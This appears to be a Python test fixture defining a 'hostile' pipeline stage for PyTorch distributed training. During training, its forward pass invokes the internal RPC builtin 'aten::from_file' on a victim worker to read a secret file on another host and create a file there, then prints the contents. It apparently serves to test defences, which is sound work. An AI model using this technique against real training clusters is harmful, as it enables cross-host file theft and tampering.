"""A stage on a hostile host: its worker tries to access another host's files."""

from __future__ import annotations

import torch
import zoo  # type: ignore[import-not-found]
from torch import Tensor, nn
from torch.distributed import rpc

_builtin = torch._C._distributed_rpc._invoke_rpc_builtin


class Hostile(nn.Module):
    """Reads and creates files on the host of `victim`, as the user of its server."""

    def __init__(self, victim: str, secret: str, made: str) -> None:
        super().__init__()
        self.inner = nn.Linear(zoo.FEATURES, 1)
        self._victim, self._secret, self._made = victim, secret, made

    def forward(self, x: Tensor) -> Tensor:
        if self.training and x.requires_grad:
            victim = rpc.get_worker_info(self._victim)
            for path, shared, size in ((self._made, True, 100), (self._secret, False, 6)):
                call = _builtin(
                    victim, "aten::from_file", 10.0, path, shared, size, dtype=torch.uint8
                )
                print("got", bytes(call.wait().tolist()).decode(), flush=True)
        result: Tensor = self.inner(x)
        return result


def layers(victim: str, secret: str, made: str) -> zoo.Layers:
    """Two stages of one layer; the second is hostile."""
    return [
        ("first", lambda: nn.Linear(zoo.FEATURES, zoo.FEATURES)),
        ("second", lambda: Hostile(victim, secret, made)),
    ]
